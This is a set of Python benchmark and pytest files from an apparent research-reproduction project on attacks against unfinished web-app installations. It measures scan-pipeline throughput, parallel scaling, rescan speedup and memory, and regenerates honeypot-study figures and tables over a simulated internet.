    original_reserved = masscan_mod.is_reserved
    prefilter_mod.match_signatures = prefilter_mod.match_signatures_naive
    masscan_mod.is_reserved = legacy_is_reserved
    try:
        start = time.perf_counter()
        report = pipeline.run(candidates)
        elapsed = time.perf_counter() - start
    finally:
        prefilter_mod.match_signatures = original_match
        masscan_mod.is_reserved = original_reserved
    assert report.port_scan.addresses_scanned == len(candidates)
    return len(candidates) / elapsed


def run_engine(
    internet, candidates, workers: int, executor: str = "thread"
) -> float:
    """Sharded engine at ``workers`` on ``executor``: addresses/sec.

    Process runs pay their real operating costs inside the timed window —
    interpreter spawn plus pickling the world into each worker — because
    that is what a user of ``--executor process`` pays too.
    """
    transport = InMemoryTransport(internet)
    pipeline = ScanPipeline(
        transport, scanned_ports(), seed=3,
        workers=workers, executor=executor,
    )
    start = time.perf_counter()
    report = pipeline.run(candidates)
    elapsed = time.perf_counter() - start
    assert report.port_scan.addresses_scanned == len(candidates)
    return len(candidates) / elapsed


def bench_pipeline(
    limit: int | None,
    worker_counts: tuple[int, ...],
    dead_per_live: int = 50,
    executors: tuple[str, ...] = ("thread", "process"),
) -> tuple[dict, object, list]:
    if "thread" not in executors:
        raise ValueError("the thread executor anchors the speedup ratios "
                         "and cannot be skipped")
    internet, candidates = bench_census(limit, dead_per_live)
    baseline = run_baseline(internet, candidates)
    sweeps = {
        executor: {
            str(workers): round(
                run_engine(internet, candidates, workers, executor), 1
            )
            for workers in worker_counts
        }
        for executor in executors
    }

    def efficiency(per_workers: dict) -> dict:
        # Scaling *efficiency* vs the engine's own workers=1 rate: the
        # honest view the 2.5x-over-baseline headline hides.  >1 means
        # adding workers helps; <1 means they cost throughput (the GIL
        # for threads, spawn + world-pickling overhead for processes).
        return {
            str(workers): round(
                per_workers[str(workers)] / per_workers["1"], 3
            )
            for workers in worker_counts
            if workers != 1 and "1" in per_workers
        }

    thread = sweeps["thread"]
    reference = thread.get("4", next(iter(thread.values())))
    results = {
        "addresses": len(candidates),
        "dead_per_live": dead_per_live,
        # Scaling numbers are only meaningful relative to the cores that
        # measured them; the floors in --enforce-scaling-floors key off
        # this field so a 1-core container is not failed for obeying
        # Amdahl's law.
        "cpu_cores": os.cpu_count(),
        "baseline_addresses_per_sec": round(baseline, 1),
        "workers": thread,
        "speedup_workers4": round(reference / baseline, 3),
        "scaling_efficiency": efficiency(thread),
    }
    if "process" in sweeps:
        process = sweeps["process"]
        results["process_workers"] = process
        # No workers=1 fallback here: a fallback number would be compared
        # against a committed workers=4 measurement by the ratio gate,
        # which is incoherent.  Absent key -> gate pair skipped.
        if "4" in process:
            results["speedup_workers4_process"] = round(
                process["4"] / baseline, 3
            )
        results["process_scaling_efficiency"] = efficiency(process)
    return results, internet, candidates


# -- profiling attribution ----------------------------------------------------

def run_sim_attribution(internet, candidates) -> dict:
    """Where simulated time goes, under mild chaos + retries.

    Deterministic: the rollup is a pure function of the seeds, so this
    section of BENCH_scan.json is diffable across machines.
    """
    clock = SimClock()
    transport = ChaosTransport(
        InMemoryTransport(internet), SIM_ATTRIBUTION_PLAN,
        seed=11, clock=clock,
    )
    pipeline = ScanPipeline(
        transport, scanned_ports(), seed=3,
        retry_policy=RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=8.0),
        clock=clock, workers=1, profile=True,
    )
    pipeline.run(candidates)
    rollup = ProfileRollup.from_spans(pipeline.telemetry.tracer.finished)
    ranked = sorted(
        sorted(rollup.paths),
        key=lambda path: -rollup.paths[path].self_time,
    )
    return {
        "root_total_sim_seconds": round(rollup.root_total, 3),
        "attributed_fraction": round(rollup.attributed_fraction(), 6),
        "top_paths": [
            {
                "path": path,
                "self": round(rollup.paths[path].self_time, 3),
                "total": round(rollup.paths[path].total, 3),
                "count": rollup.paths[path].count,
            }
            for path in ranked[:8]
        ],
    }


def run_wall_attribution(internet, candidates, worker_counts) -> dict:
    """Real seconds per span path, per worker count (profiled re-runs).

    The numbers are hardware-bound and *not* gated; what matters is the
    shape — which path's self time grows as workers are added.  The
    ``regression`` block names the path whose self wall time grows most
    from the fewest to the most workers: the code the GIL serialises.
    """
    books = {}
    for workers in worker_counts:
        transport = InMemoryTransport(internet)
        pipeline = ScanPipeline(
            transport, scanned_ports(), seed=3,
            workers=workers, profile=True,
        )
        pipeline.run(candidates)
        books[workers] = pipeline.wall_profile
    section = {
        str(workers): book.to_dict(top=6)
        for workers, book in books.items()
    }
    low, high = min(books), max(books)
    if low != high:
        slow, fast = books[high], books[low]
        paths = sorted(set(slow.path_self) | set(fast.path_self))
        dominant = max(
            paths,
            key=lambda p: slow.path_self.get(p, 0.0)
            - fast.path_self.get(p, 0.0),
        )
        section["regression"] = {
            "fast_workers": str(low),
            "slow_workers": str(high),
            "dominant_path": dominant,
            "self_delta_seconds": round(
                slow.path_self.get(dominant, 0.0)
                - fast.path_self.get(dominant, 0.0), 3,
            ),
        }
    return section


# -- rescan engine ------------------------------------------------------------

def bench_rescan(frame_addresses: int, churn: float = 0.02) -> dict:
    """Incremental re-scan vs from-scratch sweep at ``churn`` block churn.

    Builds its own world (the tiny-study population over an
    interval-compressed frame) so the measurement does not depend on
    ``--addresses``: the rescan win is about dead-run skipping and host
    replay, and needs a frame big enough for both to matter.
    """
    from repro.core.rescan import RescanEngine
    from repro.experiments.config import StudyConfig
    from repro.net.intervals import CompressedPopulation
    from repro.net.population import generate_internet

    config = StudyConfig.tiny()
    internet, _geo, _census = generate_internet(config.population)
    transport = InMemoryTransport(internet)
    pop = CompressedPopulation.build(internet, frame_addresses, seed=config.seed)
    frame = pop.frame
    engine = RescanEngine(
        transport, scanned_ports(), seed=config.seed, batch_size=16384
    )

    start = time.perf_counter()
    state = engine.baseline(frame)
    baseline_seconds = time.perf_counter() - start

    # Median of three on both sides: the gate is an absolute floor on the
    # ratio, so one noisy run must not be able to fail (or pass) it.
    full_times = []
    for _ in range(3):
        start = time.perf_counter()
        ScanPipeline(
            transport, scanned_ports(), seed=config.seed, batch_size=16384
        ).run(frame)
        full_times.append(time.perf_counter() - start)
    full_seconds = sorted(full_times)[1]

    # Port-level churn on ``churn`` of the live /24s: every
    # ``1/churn``-th live host goes away.  The engine must self-detect
    # each from the stage-I diff and deep-probe only those blocks.
    live = pop.live_values()
    step = max(1, int(1 / churn))
    removed = 0
    for value in live[::step]:
        host = internet.host_at(IPv4Address(value))
        if host is not None:
            internet.remove_host(IPv4Address(value))
            removed += 1

    rescan_times = []
    for _ in range(3):
        start = time.perf_counter()
        engine.rescan(frame, state)
        rescan_times.append(time.perf_counter() - start)
    rescan_seconds = sorted(rescan_times)[1]

    return {
        "frame_addresses": frame_addresses,
        "frame_runs": len(frame.runs),
        "live_hosts": len(live),
        "churned_hosts": removed,
        "churn": churn,
        "baseline_recorded_seconds": round(baseline_seconds, 3),
        "full_sweep_seconds": round(full_seconds, 3),
        "rescan_seconds": round(rescan_seconds, 3),
        "speedup_at_churn": round(full_seconds / rescan_seconds, 3),
    }


def bench_population_memory(
    frame_addresses: int, dict_sample: int = 200_000
) -> dict:
    """tracemalloc bytes-per-address: naive dict vs interval frame.

    The dict arm allocates ``{address: {}}`` for a sample and
    extrapolates (allocating 10M dict entries just to measure them is
    the bug this PR removes); the interval arm builds the real frame at
    full size and measures it outright.
    """
    import tracemalloc

    from repro.experiments.config import StudyConfig
    from repro.net.intervals import CompressedPopulation
    from repro.net.population import generate_internet

    config = StudyConfig.tiny()
    internet, _geo, _census = generate_internet(config.population)

    tracemalloc.start()
    before, _ = tracemalloc.get_traced_memory()
    frame = CompressedPopulation.build(
        internet, frame_addresses, seed=config.seed
    ).frame
    after, _ = tracemalloc.get_traced_memory()
    interval_bytes = after - before

    before, _ = tracemalloc.get_traced_memory()
    sample = {value: {} for value in range(dict_sample)}
    after, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    dict_bytes_per_address = (after - before) / len(sample)
    del sample

    interval_per_address = interval_bytes / len(frame)
    projected_dict_bytes = int(dict_bytes_per_address * len(frame))
    return {
        "frame_addresses": len(frame),
        "frame_runs": len(frame.runs),
        "interval_bytes": interval_bytes,
        "interval_bytes_per_address": round(interval_per_address, 4),
        "dict_sample": dict_sample,
        "dict_bytes_per_address": round(dict_bytes_per_address, 1),
        "projected_dict_bytes": projected_dict_bytes,
        "ratio": round(dict_bytes_per_address / interval_per_address, 1),
    }


# -- regression gate ----------------------------------------------------------

def check_regression(current: dict, committed: dict, tolerance: float) -> list[str]:
    """Ratio-based comparison against the committed BENCH_scan.json.

    Absolute throughput is hardware-bound, so the gate compares the
    *speedups over the in-run baseline*, which cancel the machine out.
    """
    failures: list[str] = []
    pairs = [
        ("matcher speedup",
         current["matcher"]["speedup"], committed["matcher"]["speedup"]),
        ("workers=4 end-to-end speedup",
         current["pipeline"]["speedup_workers4"],
         committed["pipeline"]["speedup_workers4"]),
    ]
    now = current["pipeline"].get("speedup_workers4_process")
    then = committed["pipeline"].get("speedup_workers4_process")
    if now is not None and then is not None:
        pairs.append(("workers=4 process end-to-end speedup", now, then))
    # Scaling efficiency (workers=N vs workers=1) is gated too, so a
    # change that silently worsens the parallel regression fails CI even
    # while the headline speedup over the seed baseline still looks fine.
    # ``.get`` guards keep the gate compatible with older-schema files.
    for key, what in (("scaling_efficiency", "thread"),
                      ("process_scaling_efficiency", "process")):
        for count in ("4", "8"):
            now = current["pipeline"].get(key, {}).get(count)
            then = committed["pipeline"].get(key, {}).get(count)
            if now is not None and then is not None:
                pairs.append(
                    (f"workers={count} {what} scaling efficiency", now, then)
                )
    # Rescan and memory ratios are machine-independent; gate them like
    # the speedups.  ``.get`` keeps schema-3 files working.
    for section, key, what in (
        ("rescan", "speedup_at_churn", "rescan speedup at 2% churn"),
        ("memory", "ratio", "dict/interval bytes-per-address ratio"),
    ):
        now = current.get(section, {}).get(key)
        then = committed.get(section, {}).get(key)
        if now is not None and then is not None:
            pairs.append((what, now, then))
    for label, now, then in pairs:
        floor = then * (1.0 - tolerance)
        if now < floor:
            failures.append(
                f"{label} regressed: {now:.3f} < {floor:.3f} "
                f"(committed {then:.3f}, tolerance {tolerance:.0%})"
            )
    return failures


def check_scaling_floors(current: dict) -> list[str]:
    """Absolute floors on *this run's* process-executor scaling.

    Unlike :func:`check_regression` this does not compare against the
    committed file: it asserts the multicore promise itself — workers=4
    must beat workers=1 by at least 2x on a >=4-core machine (3x at
    workers=8 on >=8 cores).  Floors whose core count the runner lacks
    are skipped, so the committed file from a small container never
    poisons the gate; CI enforces them on real multicore runners with a
    frame large enough that worker startup is amortised.
    """
    pipeline = current["pipeline"]
    cores = pipeline.get("cpu_cores") or 1
    efficiency = pipeline.get("process_scaling_efficiency")
    if efficiency is None:
        return ["--enforce-scaling-floors needs the process executor "
                "measured; include it in --executors"]
    failures: list[str] = []
    for count, floor in sorted(
        EFFICIENCY_FLOORS.items(), key=lambda pair: int(pair[0])
    ):
        if cores < int(count):
            continue
        now = efficiency.get(count)
        if now is not None and now < floor:
            failures.append(
                f"process executor at workers={count} scaled only "
                f"{now:.3f}x over workers=1 on a {cores}-core machine "
                f"(floor {floor}x)"
            )
    return failures


def check_rescan_floors(current: dict) -> list[str]:
    """Absolute floors on this run's rescan speedup and memory ratio.

    Both numbers compare two measurements from the same process on the
    same machine, so unlike raw throughput they carry no hardware term
    and can be gated absolutely.
    """
    failures: list[str] = []
    rescan = current.get("rescan")
    if rescan is None:
        failures.append("--enforce-rescan-floors needs the rescan section; "
                        "run without --no-rescan")
    else:
        speedup = rescan["speedup_at_churn"]
        if speedup < RESCAN_SPEEDUP_FLOOR:
            failures.append(
                f"incremental re-scan at {rescan['churn']:.0%} churn beat the "
                f"full sweep by only {speedup:.2f}x "
                f"(floor {RESCAN_SPEEDUP_FLOOR}x)"
            )
    memory = current.get("memory")
    if memory is None:
        failures.append("--enforce-rescan-floors needs the memory section; "
                        "run without --no-rescan")
    else:
        ratio = memory["ratio"]
        if ratio < MEMORY_RATIO_FLOOR:
            failures.append(
                f"interval frame cost {memory['interval_bytes_per_address']} "
                f"bytes/address vs dict {memory['dict_bytes_per_address']} "
                f"— ratio {ratio:.1f} under the {MEMORY_RATIO_FLOOR}x floor"
            )
    return failures


# -- entry point --------------------------------------------------------------

def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=None,
                        help="write results to this JSON file")
    parser.add_argument("--addresses", type=int, default=None,
                        help="cap the census at this many candidates "
                             "(default: the full bench-scale census)")
    parser.add_argument("--matcher-rounds", type=int, default=30)
    parser.add_argument("--dead-per-live", type=int, default=50,
                        help="unresponsive neighbours pulled into the frame "
                             "per populated host (models the mostly-silent "
                             "internet-wide sweep)")
    parser.add_argument("--workers", type=int, nargs="+",
                        default=(1, 2, 4, 8))
    parser.add_argument("--executors", nargs="+",
                        choices=("thread", "process"),
                        default=("thread", "process"),
                        help="executors to sweep; thread anchors the "
                             "baseline-relative speedups and is mandatory. "
                             "CI's smoke-scale gate runs thread-only because "
                             "a tiny frame measures process startup cost, "
                             "not scaling")
    parser.add_argument("--check", type=Path, default=None,
                        help="compare speedup ratios against this committed "
                             "BENCH_scan.json and exit 1 on regression")
    parser.add_argument("--tolerance", type=float, default=0.3,
                        help="allowed relative regression for --check")
    parser.add_argument("--enforce-scaling-floors", action="store_true",
                        help="fail unless this run's process executor hits "
                             "the absolute efficiency floors (workers=4 >= "
                             "2x, workers=8 >= 3x vs workers=1) on a machine "
                             "with that many cores; use a frame large enough "
                             "to amortise worker startup")
    parser.add_argument("--no-profile", action="store_true",
                        help="skip the profile-attribution section "
                             "(halves the bench's wall time)")
    parser.add_argument("--no-rescan", action="store_true",
                        help="skip the rescan and population-memory "
                             "sections (they build their own world)")
    parser.add_argument("--rescan-addresses", type=int, default=10_000_000,
                        help="interval-frame size for the rescan and "
                             "memory sections")
    parser.add_argument("--enforce-rescan-floors", action="store_true",
                        help="fail unless the incremental re-scan beats a "
                             "full sweep by >= 5x at 2%% churn and the "
                             "interval frame costs <= 1/10 the bytes per "
                             "address of a naive dict")
    parser.add_argument("--sim-addresses", type=int, default=30000,
                        help="frame cap for the chaos-driven SimClock "
                             "attribution arm (retries make it slow per "
                             "address; the attribution fraction does not "
                             "depend on the frame size)")
    args = parser.parse_args(argv)

    print("benching matcher ...", flush=True)
    matcher = bench_matcher(rounds=args.matcher_rounds)
    print(f"  naive       {matcher['naive_bodies_per_sec']:>10} bodies/s")
    print(f"  single-pass {matcher['single_pass_bodies_per_sec']:>10} bodies/s"
          f"  ({matcher['speedup']}x)")

    print("benching pipeline ...", flush=True)
    pipeline, internet, candidates = bench_pipeline(
        args.addresses, tuple(args.workers), args.dead_per_live,
        tuple(args.executors),
    )
    print(f"  baseline    {pipeline['baseline_addresses_per_sec']:>10} addrs/s"
          f"  ({pipeline['cpu_cores']} cores)")
    for executor, key in (("thread", "workers"), ("process", "process_workers")):
        for workers, value in pipeline.get(key, {}).items():
            print(f"  {executor:>7} workers={workers}   {value:>10} addrs/s")
    speedups = [f"thread {pipeline['speedup_workers4']}x"]
    if "speedup_workers4_process" in pipeline:
        speedups.append(f"process {pipeline['speedup_workers4_process']}x")
    print("  workers=4 speedup over baseline: " + ", ".join(speedups))
    for executor, key in (("thread", "scaling_efficiency"),
                          ("process", "process_scaling_efficiency")):
        for workers, efficiency in pipeline.get(key, {}).items():
            print(f"  {executor:>7} workers={workers} efficiency "
                  f"vs workers=1: {efficiency}x")

    results = {"schema": SCHEMA, "matcher": matcher, "pipeline": pipeline}

    if not args.no_profile:
        print("profiling attribution ...", flush=True)
        sim = run_sim_attribution(internet, candidates[:args.sim_addresses])
        print(f"  sim root total {sim['root_total_sim_seconds']}s, "
              f"{sim['attributed_fraction']:.1%} attributed to named paths")
        wall = run_wall_attribution(internet, candidates, tuple(args.workers))
        for workers in map(str, args.workers):
            book = wall.get(workers)
            if book:
                print(f"  workers={workers} wall {book['elapsed']}s, "
                      f"dominant {book['dominant_path']}")
        regression = wall.get("regression")
        if regression:
            print(f"  workers={regression['slow_workers']} vs "
                  f"{regression['fast_workers']} regression: "
                  f"+{regression['self_delta_seconds']}s self in "
                  f"{regression['dominant_path']}")
        results["profile"] = {"sim": sim, "wall": wall}

    if not args.no_rescan:
        print("benching incremental re-scan ...", flush=True)
        rescan = bench_rescan(args.rescan_addresses)
        print(f"  full sweep {rescan['full_sweep_seconds']}s, incremental "
              f"{rescan['rescan_seconds']}s at {rescan['churn']:.0%} churn "
              f"({rescan['speedup_at_churn']}x)")
        memory = bench_population_memory(args.rescan_addresses)
        print(f"  frame {memory['interval_bytes_per_address']} B/addr vs "
              f"dict {memory['dict_bytes_per_address']} B/addr "
              f"({memory['ratio']}x)")
        results["rescan"] = rescan
        results["memory"] = memory

    if args.out is not None:
        args.out.write_text(json.dumps(results, indent=2) + "\n")
        print(f"wrote {args.out}")

    failures: list[str] = []
    if args.check is not None:
        committed = json.loads(args.check.read_text())
        failures += check_regression(results, committed, args.tolerance)
    if args.enforce_rescan_floors:
        rescan_failures = check_rescan_floors(results)
        if not rescan_failures:
            print("rescan floors passed "
                  f"(speedup >= {RESCAN_SPEEDUP_FLOOR}x, "
                  f"memory ratio >= {MEMORY_RATIO_FLOOR}x)")
        failures += rescan_failures
    if args.enforce_scaling_floors:
        floor_failures = check_scaling_floors(results)
        if not floor_failures:
            cores = pipeline["cpu_cores"]
            enforced = [
                count for count in EFFICIENCY_FLOORS if cores >= int(count)
            ]
            if enforced:
                print("scaling floors passed at workers="
                      + ",".join(sorted(enforced, key=int)))
            else:
                print(f"scaling floors skipped: only {cores} core(s)")
        failures += floor_failures
    for failure in failures:
        print(f"REGRESSION: {failure}", file=sys.stderr)
    if failures:
        return 1
    if args.check is not None:
        print("regression gate passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
