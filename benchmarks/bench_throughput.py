"""Throughput harness: stage-II bodies/sec and end-to-end addresses/sec.

Times two things against a *seed-baseline emulation* (the hot paths as
they were before the parallel-engine PR):

* **matcher** — ``match_signatures`` (guaranteed-literal prescan + single
  combined scan) versus ``match_signatures_naive`` (up to 90 regexes, one
  at a time) over the canned-page corpus plus signature-free bodies;
* **pipeline** — the sharded engine at 1/2/4/8 workers versus a
  sequential baseline run with the naive matcher and the per-port probe
  path (no batched ``probe_ports``), on a bench-scale census.

Results land in ``BENCH_scan.json`` so future PRs have a perf
trajectory.  ``--check`` gates CI on the committed file: because absolute
addresses/sec depend on the runner's hardware, the gate compares the
hardware-independent *speedup ratios* (current vs committed) and fails
when sequential throughput regresses more than ``--tolerance`` relative
to its baseline.

Usage::

    PYTHONPATH=src python benchmarks/bench_throughput.py \
        --out BENCH_scan.json                  # full-scale, rewrite file
    PYTHONPATH=src python benchmarks/bench_throughput.py \
        --addresses 3000 --check BENCH_scan.json   # CI smoke + gate
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from pathlib import Path

from repro.apps.catalog import scanned_ports
from repro.core import masscan as masscan_mod
from repro.core import prefilter as prefilter_mod
from repro.core.pipeline import ScanPipeline
from repro.core.prefilter import match_signatures, match_signatures_naive
from repro.lint.corpus import build_corpus
from repro.net.ipv4 import IPv4Address, iana_reserved_networks
from repro.net.transport import InMemoryTransport, Transport

SCHEMA = 1


# -- matcher ------------------------------------------------------------------

def matcher_bodies() -> list[str]:
    """The canned-page corpus plus signature-free filler, 2:1.

    Real stage-II traffic is a mix of application landing pages and
    bodies that match nothing (decoys, error pages); the filler keeps the
    bench honest about the all-miss case, which is the matcher's
    worst-case scan.
    """
    corpus = [
        body
        for pages in build_corpus().values()
        for body in pages.values()
    ]
    filler = ["<html><body>nothing to see here</body></html> " * 30] * (
        len(corpus) // 2
    )
    return corpus + filler


def bench_matcher(rounds: int = 30) -> dict:
    bodies = matcher_bodies()

    def rate(fn) -> float:
        start = time.perf_counter()
        for _ in range(rounds):
            for body in bodies:
                fn(body)
        return rounds * len(bodies) / (time.perf_counter() - start)

    naive = rate(match_signatures_naive)
    single_pass = rate(match_signatures)
    return {
        "bodies": len(bodies),
        "naive_bodies_per_sec": round(naive, 1),
        "single_pass_bodies_per_sec": round(single_pass, 1),
        "speedup": round(single_pass / naive, 3),
    }


# -- pipeline -----------------------------------------------------------------

def legacy_is_reserved(address: IPv4Address) -> bool:
    """The pre-PR reserved check: a linear scan over all 27 CIDR objects.

    The PR replaced it with a bisect over precomputed integer ranges;
    the baseline must still pay the old per-address cost.
    """
    return any(net.contains(address) for net in _LEGACY_RESERVED)


_LEGACY_RESERVED = iana_reserved_networks()


class PerPortTransport(Transport):
    """Seed-baseline probe path: no batched ``probe_ports`` override.

    Wrapping the in-memory transport in this shim restores the
    one-host-lookup-per-port behaviour the scanner had before this PR,
    which is what the end-to-end baseline must measure.
    """

    def __init__(self, inner: Transport) -> None:
        super().__init__(enforce_ethics=inner.enforce_ethics)
        self.inner = inner
        self.stats = inner.stats

    def _port_open(self, ip, port):
        return self.inner._port_open(ip, port)

    def _exchange(self, ip, port, scheme, request):
        return self.inner._exchange(ip, port, scheme, request)

    def fetch_certificate(self, ip, port):
        return self.inner.fetch_certificate(ip, port)


def bench_census(limit: int | None, dead_per_live: int = 50):
    """The bench-scale frame: populated hosts diluted with dead neighbours.

    The paper sweeps ~3.5B addresses of which a sliver responds, so a
    realistic throughput frame is dominated by stage I silence.  Scanning
    only ``populated_addresses()`` would invert that (and hide the
    batched-probe win), so each populated host drags ``dead_per_live``
    unpopulated addresses from its own /24 into the frame.
    """
    from repro.experiments.config import StudyConfig
    from repro.net.population import generate_internet

    internet, _geo, _census = generate_internet(
        StudyConfig.default().population
    )
    populated: list[IPv4Address] = internet.populated_addresses()
    if limit is not None:
        populated = populated[:limit]
    values = set()
    for ip in populated:
        values.add(ip.value)
        base = ip.value & 0xFFFFFF00
        added = 0
        for offset in range(256):
            if added == dead_per_live:
                break
            value = base + offset
            if value not in values:
                values.add(value)
                added += 1
    candidates = [IPv4Address(value) for value in sorted(values)]
    return internet, candidates


def run_baseline(internet, candidates) -> float:
    """Sequential sweep with the pre-PR hot paths: addresses/sec."""
    transport = PerPortTransport(InMemoryTransport(internet))
    pipeline = ScanPipeline(transport, scanned_ports(), seed=3)
    # The baseline must pay the old 90-regex matching and linear
    # reserved-check costs; swapping the module hooks is bench-only
    # surgery and is undone immediately.
    original_match = prefilter_mod.match_signatures
    original_reserved = masscan_mod.is_reserved
    prefilter_mod.match_signatures = prefilter_mod.match_signatures_naive
    masscan_mod.is_reserved = legacy_is_reserved
    try:
        start = time.perf_counter()
        report = pipeline.run(candidates)
        elapsed = time.perf_counter() - start
    finally:
        prefilter_mod.match_signatures = original_match
        masscan_mod.is_reserved = original_reserved
    assert report.port_scan.addresses_scanned == len(candidates)
    return len(candidates) / elapsed


def run_engine(internet, candidates, workers: int) -> float:
    """Sharded engine at ``workers``: addresses/sec."""
    transport = InMemoryTransport(internet)
    pipeline = ScanPipeline(transport, scanned_ports(), seed=3, workers=workers)
    start = time.perf_counter()
    report = pipeline.run(candidates)
    elapsed = time.perf_counter() - start
    assert report.port_scan.addresses_scanned == len(candidates)
    return len(candidates) / elapsed


def bench_pipeline(
    limit: int | None,
    worker_counts: tuple[int, ...],
    dead_per_live: int = 50,
) -> dict:
    internet, candidates = bench_census(limit, dead_per_live)
    baseline = run_baseline(internet, candidates)
    per_workers = {
        str(workers): round(run_engine(internet, candidates, workers), 1)
        for workers in worker_counts
    }
    reference = per_workers.get("4", next(iter(per_workers.values())))
    return {
        "addresses": len(candidates),
        "dead_per_live": dead_per_live,
        "baseline_addresses_per_sec": round(baseline, 1),
        "workers": per_workers,
        "speedup_workers4": round(reference / baseline, 3),
    }


# -- regression gate ----------------------------------------------------------

def check_regression(current: dict, committed: dict, tolerance: float) -> list[str]:
    """Ratio-based comparison against the committed BENCH_scan.json.

    Absolute throughput is hardware-bound, so the gate compares the
    *speedups over the in-run baseline*, which cancel the machine out.
    """
    failures: list[str] = []
    pairs = (
        ("matcher speedup",
         current["matcher"]["speedup"], committed["matcher"]["speedup"]),
        ("workers=4 end-to-end speedup",
         current["pipeline"]["speedup_workers4"],
         committed["pipeline"]["speedup_workers4"]),
    )
    for label, now, then in pairs:
        floor = then * (1.0 - tolerance)
        if now < floor:
            failures.append(
                f"{label} regressed: {now:.3f} < {floor:.3f} "
                f"(committed {then:.3f}, tolerance {tolerance:.0%})"
            )
    return failures


# -- entry point --------------------------------------------------------------

def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=None,
                        help="write results to this JSON file")
    parser.add_argument("--addresses", type=int, default=None,
                        help="cap the census at this many candidates "
                             "(default: the full bench-scale census)")
    parser.add_argument("--matcher-rounds", type=int, default=30)
    parser.add_argument("--dead-per-live", type=int, default=50,
                        help="unresponsive neighbours pulled into the frame "
                             "per populated host (models the mostly-silent "
                             "internet-wide sweep)")
    parser.add_argument("--workers", type=int, nargs="+",
                        default=(1, 2, 4, 8))
    parser.add_argument("--check", type=Path, default=None,
                        help="compare speedup ratios against this committed "
                             "BENCH_scan.json and exit 1 on regression")
    parser.add_argument("--tolerance", type=float, default=0.3,
                        help="allowed relative regression for --check")
    args = parser.parse_args(argv)

    print("benching matcher ...", flush=True)
    matcher = bench_matcher(rounds=args.matcher_rounds)
    print(f"  naive       {matcher['naive_bodies_per_sec']:>10} bodies/s")
    print(f"  single-pass {matcher['single_pass_bodies_per_sec']:>10} bodies/s"
          f"  ({matcher['speedup']}x)")

    print("benching pipeline ...", flush=True)
    pipeline = bench_pipeline(
        args.addresses, tuple(args.workers), args.dead_per_live
    )
    print(f"  baseline    {pipeline['baseline_addresses_per_sec']:>10} addrs/s")
    for workers, value in pipeline["workers"].items():
        print(f"  workers={workers}   {value:>10} addrs/s")
    print(f"  workers=4 speedup over baseline: {pipeline['speedup_workers4']}x")

    results = {"schema": SCHEMA, "matcher": matcher, "pipeline": pipeline}
    if args.out is not None:
        args.out.write_text(json.dumps(results, indent=2) + "\n")
        print(f"wrote {args.out}")

    if args.check is not None:
        committed = json.loads(args.check.read_text())
        failures = check_regression(results, committed, args.tolerance)
        for failure in failures:
            print(f"REGRESSION: {failure}", file=sys.stderr)
        if failures:
            return 1
        print("regression gate passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
