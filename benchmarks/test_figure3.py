"""E-F3: regenerate Figure 3 (attack timeline, new vs repeated)."""

from repro.analysis.figures import Figure3
from repro.util.clock import WEEK


def test_figure3(benchmark, honeypot_study):
    figure = benchmark(Figure3.build, honeypot_study.attacks)
    print()
    print(figure.render())

    # Hadoop under constant pressure: attacks every single day.
    hadoop = figure.daily_histogram("hadoop")
    assert all(count > 0 for count in hadoop)

    # Docker and Jupyter Notebook show no long breaks once they start
    # (the paper: "attacked at least every other day").
    for slug in ("docker", "jupyter-notebook"):
        histogram = figure.daily_histogram(slug)
        first_day = next(i for i, c in enumerate(histogram) if c)
        active = histogram[first_day:]
        for window_start in range(len(active) - 2):
            assert sum(active[window_start:window_start + 3]) > 0, slug

    # Jupyter Lab heats up toward the end of the study.
    lab_times = [t for t, _new in figure.timeline["jupyterlab"]]
    early = sum(1 for t in lab_times if t < 2 * WEEK)
    late = sum(1 for t in lab_times if t >= 2 * WEEK)
    assert late > early

    # WordPress: one fast fluke, then over a week of silence.
    wp_times = sorted(t for t, _new in figure.timeline["wordpress"])
    assert wp_times[1] - wp_times[0] > 1 * WEEK

    # New payloads (yellow stars) are a minority of Hadoop's events.
    hadoop_flags = [new for _t, new in figure.timeline["hadoop"]]
    assert sum(hadoop_flags) < 0.1 * len(hadoop_flags)
