"""Extension bench (§6.2): Certificate Transparency discovery race.

Quantifies the paper's future-work conjecture that attackers monitoring
CT logs find unfinished installations far faster than IPv4 sweepers.
"""

from repro.experiments.ct_race import CtRaceConfig, run_ct_race
from repro.util.clock import MINUTE


def test_ct_race(benchmark):
    result = benchmark.pedantic(
        run_ct_race, args=(CtRaceConfig(deployments=400),), rounds=1, iterations=1
    )
    print()
    print(result.table().render())

    # The conjectured shape: CT monitoring nearly always wins the race,
    # sweeping mostly loses it, and the gap is large.
    assert result.ct.hijack_rate > 0.9
    assert result.sweep.hijack_rate < 0.6
    assert result.ct.median_delay < 10 * MINUTE
    assert result.ct.median_delay * 10 < result.sweep.median_delay
