"""E-T7: regenerate Table 7 (attack-origin countries)."""

from conftest import print_table

from repro.analysis.tables import table7


def test_table7(benchmark, honeypot_study):
    table = benchmark(table7, honeypot_study.attacks, honeypot_study.geo)
    print_table(table)

    dicts = table.as_dicts()
    top4 = [row["Country"] for row in dicts[:4]]
    # Paper: Netherlands (496), Brazil (398), US (359) lead.
    assert "Netherlands" in top4
    assert "Brazil" in top4
    assert "United States" in top4

    by_country = {row["Country"]: row for row in dicts}
    assert by_country["Netherlands"]["# Attacks"] > 300
    assert by_country["Brazil"]["# Attacks"] > 250
    # Moldova concentrates in very few ASes (paper: 2).
    if "Moldova" in by_country:
        assert by_country["Moldova"]["# AS"] <= 3
