"""End-to-end benchmark of the four-week honeypot study (§4)."""

from repro.experiments.config import StudyConfig
from repro.experiments.honeypots import run_honeypot_study


def test_honeypot_study_run(benchmark):
    study = benchmark.pedantic(
        run_honeypot_study, args=(StudyConfig.default(),), rounds=1, iterations=1
    )
    assert len(study.attacks) == 2195
    assert study.attacked_applications() == {
        "jenkins", "wordpress", "grav", "docker", "hadoop",
        "jupyterlab", "jupyter-notebook",
    }
    study.fleet.log.verify_integrity()
