"""Ablation: voluntary disclosure vs hash-knowledge-base fingerprinting.

The paper combines two mechanisms: 13 applications reveal their version
voluntarily; the rest need the static-file hash knowledge base.  This
bench measures coverage and cost of each mechanism alone against the same
population.
"""

import pytest

